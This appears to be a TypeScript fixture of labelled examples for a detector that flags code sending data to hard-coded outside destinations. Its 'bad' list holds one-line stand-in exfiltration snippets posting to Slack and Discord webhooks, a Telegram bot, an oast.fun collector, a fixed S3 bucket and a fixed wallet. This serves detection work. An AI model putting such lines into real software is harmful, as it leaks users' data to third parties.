import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "post('https://hooks.slack.com/services/' + 'T000/B000/xyz', text);",
      why: 'a Slack web hook',
      attributes: { service: 'slack-webhook', destination: 'T000/B000/xyz' },
    },
    {
      code: "const u = 'https://discord.com/api/webhooks/123456789/token';",
      why: 'a Discord web hook',
      attributes: { service: 'discord-webhook', destination: '123456789' },
    },
    {
      code: 'const u = `https://api.telegram.org/bot12345678:AAA/sendMessage?text=${t}`;',
      why: 'a bot with its token',
      attributes: { service: 'telegram-bot', destination: '12345678' },
    },
    {
      code: 'send({ chat_id: -1001234567, text });',
      why: 'a fixed chat',
      attributes: { service: 'telegram-chat', destination: '-1001234567' },
    },
    {
      code: "https.request({ hostname: 'abc.oast.fun' });",
      why: 'a collector',
      attributes: { service: 'collector', destination: 'abc.oast.fun' },
    },
    {
      code: "new PutObjectCommand({ Bucket: 'collected', Key: k, Body: b });",
      why: 'a fixed bucket',
      attributes: { service: 's3-bucket', destination: 'collected' },
    },
    {
      code: "tx.to = '0x00000000000000000000000000000000DEADBEEF';",
      why: 'a fixed payee',
      attributes: {
        service: 'ethereum-wallet',
        destination: '0x00000000000000000000000000000000deadbeef',
      },
    },
    {
      code: "web.chat.postMessage({ channel: 'C0COLLECT', text });",
      why: 'a fixed channel',
      attributes: { service: 'slack-channel', destination: 'C0COLLECT' },
    },
  ],
  good: [
    { code: "const docs = 'https://discord.com/invite/x';", why: 'an invitation' },
    { code: 'web.chat.postMessage({ channel, text });', why: 'somebody else decides' },
    {
      code: "const tokens = { USDC: '0x00000000000000000000000000000000DEADBEEF' };",
      why: 'a contract',
    },
    {
      code: "port.postMessage({ type: 'x' }); send({ chat_id: chatId });",
      why: 'not a fixed chat',
    },
  ],
};
